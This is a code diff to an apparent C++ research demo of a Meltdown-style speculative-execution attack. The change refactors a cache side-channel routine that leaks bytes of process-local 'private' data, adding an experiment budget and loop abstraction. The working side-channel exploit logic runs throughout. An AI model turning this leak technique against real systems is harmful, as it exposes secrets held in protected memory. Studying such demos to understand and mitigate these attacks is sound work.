@@ -34,6 +34,7 @@
 #include <signal.h>
 
 #include "cache_sidechannel.h"
+#include "experiment.h"
 #include "instr.h"
 #include "local_content.h"
 #include "meltdown_local_content.h"
@@ -44,10 +45,13 @@
 // because of the SIGSEGV and architectural jumping over that section.
 // In the next loop the restore from stack spill just loads some random value
 // from the stack that was not rewritten.
-static char LeakByte(const char *data, volatile size_t offset) {
-  CacheSideChannel sidechannel;
+static ExperimentOutcome LeakByte(CacheSideChannel &sidechannel,
+                                  const char *data, volatile size_t offset,
+                                  const ExperimentBudget &budget) {
+  sidechannel.ResetScores();
   const std::array<BigByte, 256> &oracle = sidechannel.GetOracle();
 
+  ExperimentLoop loop(budget);
   for (int run = 0;; ++run) {
     size_t safe_offset = run % strlen(data);
     sidechannel.FlushOracle();
@@ -82,18 +86,14 @@ static char LeakByte(const char *data, volatile size_t offset) {
     std::pair<bool, char> result =
         sidechannel.RecomputeScores(data[safe_offset]);
 
-    if (result.first) {
-      return result.second;
-    }
-
-    if (run > 100000) {
-      std::cerr << "Does not converge " << result.second << std::endl;
-      exit(EXIT_FAILURE);
+    if (loop.Done(result)) {
+      return loop.Finish(sidechannel);
     }
   }
 }
 
 int main() {
+  CacheSideChannel sidechannel;
 #if SAFESIDE_LINUX
   OnSignalMoveRipToAfterspeculation(SIGSEGV);
 #elif SAFESIDE_MAC
@@ -105,7 +105,14 @@ int main() {
   std::cout.flush();
   size_t private_offset = private_data - public_data;
   for (size_t i = 0; i < strlen(private_data); ++i) {
-    std::cout << LeakByte(public_data, private_offset + i);
+    ExperimentOutcome outcome = LeakByte(sidechannel, public_data,
+                                         private_offset + i,
+                                         ExperimentBudget());
+    if (!outcome.converged) {
+      std::cerr << "Does not converge " << outcome.value << std::endl;
+      exit(EXIT_FAILURE);
+    }
+    std::cout << outcome.value;
     std::cout.flush();
   }
   std::cout << "\nDone!\n";